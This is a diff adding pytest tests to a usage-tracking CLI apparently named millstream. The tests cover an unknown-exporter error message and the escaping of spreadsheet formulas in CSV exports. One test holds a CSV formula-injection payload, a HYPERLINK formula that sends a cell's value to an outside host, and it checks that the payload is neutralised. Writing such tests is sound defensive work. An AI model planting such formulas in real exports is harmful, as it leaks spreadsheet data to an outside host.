@@ -206,8 +206,31 @@ def test_an_invoice_is_compared_and_what_differs_is_said(tmp_path: Path) -> None
         6,
     )
     assert "completion_tokens" in millstream("usage", "verify", "--invoice", str(invoice), code=1)
+    millstream("usage", "verify", "--invoice", str(invoice), "--since", "1d", code=2)
     invoice.write_bytes(b"\xff\xfe")
     millstream("usage", "verify", "--invoice", str(invoice), code=2)
+
+
+def test_no_exporter_is_told_from_one_for_which_nothing_has_failed(tmp_path: Path) -> None:
+    record()
+    (tmp_path / "millstream.toml").write_text(
+        '[exporters.books]\ntype = "webhook"\nurl = "https://a.test/"\nsecret = "whsec_' + "A" * 32 + '"\n'
+    )
+    assert "0 streams" in millstream("exports", "retry", "books")
+    done = CliRunner().invoke(app, ["exports", "retry", "bosok"])
+    assert (done.exit_code, done.stderr) == (
+        1,
+        "millstream: there is no exporter 'bosok', and nothing waits for one\n",
+    )
+
+
+def test_no_name_is_a_formula_in_a_spreadsheet() -> None:
+    record({"model": "-m", "provider": "p", "user": '=HYPERLINK("http://x/?"&A1)'}, {"model": "m"})
+    (named, plain) = list(csv.reader(io.StringIO(millstream("usage", "--by", "user,model", "--csv"))))[1:]
+    cells = sorted([named[:2], plain[:2]])
+    assert cells == [["", "m"], ['\'=HYPERLINK("http://x/?"&A1)', "'-m"]]
+    rows = csv.DictReader(io.StringIO(millstream("usage", "export")))
+    assert sorted(row["model"] for row in rows) == ["'-m", "m"]
 
 
 @pytest.mark.parametrize(
